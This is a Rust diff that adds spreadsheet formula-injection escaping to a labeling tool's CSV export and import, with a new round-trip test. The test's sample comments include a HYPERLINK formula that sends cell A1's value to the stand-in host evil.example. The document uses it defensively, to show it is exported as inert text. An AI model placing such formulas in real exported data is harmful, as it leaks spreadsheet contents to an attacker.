@@ -120,7 +120,7 @@ pub fn to_csv(rows: &[LabelRow]) -> Result<String> {
     for r in rows {
         let l = &r.label;
         let traps: Vec<String> = l.traps.iter().map(|(t, a)| format!("{t}:{}", if *a { "agree" } else { "disagree" })).collect();
-        w.write_record([
+        let record = [
             l.run.as_str(),
             &l.rater,
             call(l.overeager),
@@ -134,7 +134,8 @@ pub fn to_csv(rows: &[LabelRow]) -> Result<String> {
             &r.model,
             &r.scenario,
             r.variant.as_str(),
-        ])?;
+        ];
+        w.write_record(record.map(crate::spreadsheet::to_cell).iter().map(|c| c.as_ref()))?;
     }
     Ok(String::from_utf8(w.into_inner().map_err(|e| anyhow::anyhow!("{e}"))?)?)
 }
@@ -167,7 +168,7 @@ pub fn parse_csv(name: &str, text: &str, default_rater: &str) -> Result<Vec<(u64
     for rec in rdr.records() {
         let rec = rec.with_context(|| format!("{name}: not valid CSV"))?;
         let line = rec.position().map_or(0, |p| p.line());
-        let get = |c: Option<usize>| c.and_then(|c| rec.get(c)).unwrap_or("");
+        let get = |c: Option<usize>| crate::spreadsheet::from_cell(c.and_then(|c| rec.get(c)).unwrap_or(""));
         let run = get(Some(run_col)).to_string();
         let raw = get(Some(label_col));
         let rater = Some(get(rater_col)).filter(|r| !r.is_empty()).unwrap_or(default_rater).to_string();
@@ -236,6 +237,29 @@ mod tests {
             judge: Some(judge),
             fired: traps.iter().map(|(t, _)| t.to_string()).collect(),
         }
+    }
+
+    /// `=HYPERLINK(…)` typed as a comment by a reviewer: the export makes it text for a
+    /// spreadsheet (a tab before it too, which the importer's trimming used to turn into a bare
+    /// `=`), and the import gives back the comment as typed.
+    #[test]
+    fn a_formula_in_a_comment_is_exported_as_text_and_imported_as_typed() {
+        let comments = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "\t=1+1", "@SUM(A1)", "'quoted", "-0.5"];
+        let rows: Vec<LabelRow> = comments
+            .iter()
+            .enumerate()
+            .map(|(i, c)| {
+                let mut r = row(&format!("r{i}"), "ann", true, true, &[("t", true)]);
+                r.label.comment = Some(c.to_string());
+                r
+            })
+            .collect();
+        let csv = to_csv(&rows).unwrap();
+        let mut rdr = csv::Reader::from_reader(csv.as_bytes());
+        let written: Vec<String> = rdr.records().map(|r| r.unwrap()[5].to_string()).collect();
+        assert_eq!(written, ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "'\t=1+1", "'@SUM(A1)", "''quoted", "-0.5"]);
+        let back: Vec<String> = parse_csv("labels.csv", &csv, "x").unwrap().into_iter().map(|(_, l)| l.comment.unwrap()).collect();
+        assert_eq!(back, comments);
     }
 
     #[test]
